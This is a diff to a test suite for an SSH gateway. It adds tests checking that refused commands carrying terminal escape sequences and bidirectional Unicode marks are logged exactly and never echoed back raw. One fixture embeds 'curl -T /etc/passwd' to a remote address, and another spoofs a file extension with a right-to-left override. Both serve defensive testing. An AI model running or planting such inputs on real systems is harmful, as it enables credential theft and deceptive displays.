@@ -196,6 +196,17 @@ describeWith(['ssh', 'ssh-keygen'], 'a refused person', () => {
       expect(await lastSession(gateway, 'chen')).toMatchObject({ reason: 'gate_refused', isSealed: true });
     });
 
+    test.each([
+      ['controls', 'x\u001b]0;owned\u0007 crm; curl -T /etc/passwd http://\u009b2J/', 'cannot be read as a whole'],
+      ['bidirectional marks', 'mysqldump\u202egpj.\u2066exe\u200f crm', '"mysqldump\ufffdgpj.\ufffdexe\ufffd"'],
+    ])('has %s that a terminal acts on never gets them back', async (_what, command, shown) => {
+      const { stderr, status } = await gateway.ssh('chen', command);
+      expect(status).toBe(REFUSED);
+      expect(stderr).toContain(shown);
+      expect(stderr.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\u2028\u2029]/u);
+      expect((await newest(gateway.database, 'act.refused')).body['text']).toBe(command); // The evidence is exact.
+    });
+
     test('is longer than 16 KiB is told that nobody could judge it', async () => {
       const result = await gateway.ssh('chen', `echo ${'x'.repeat(LIMITS.commandBytesMax)}`);
       expect(result.status).toBe(GATEWAY);
@@ -246,7 +257,7 @@ describeWith(['ssh', 'ssh-keygen'], 'a refused person', () => {
       expect(answer.status).toBe(204);
     };
 
-    test('does not get in, by key or in the browser', async () => {
+    test('does not get in, whatever key proves who they are', async () => {
       await gateway.key('chen');
       await lock('lock');
       try {
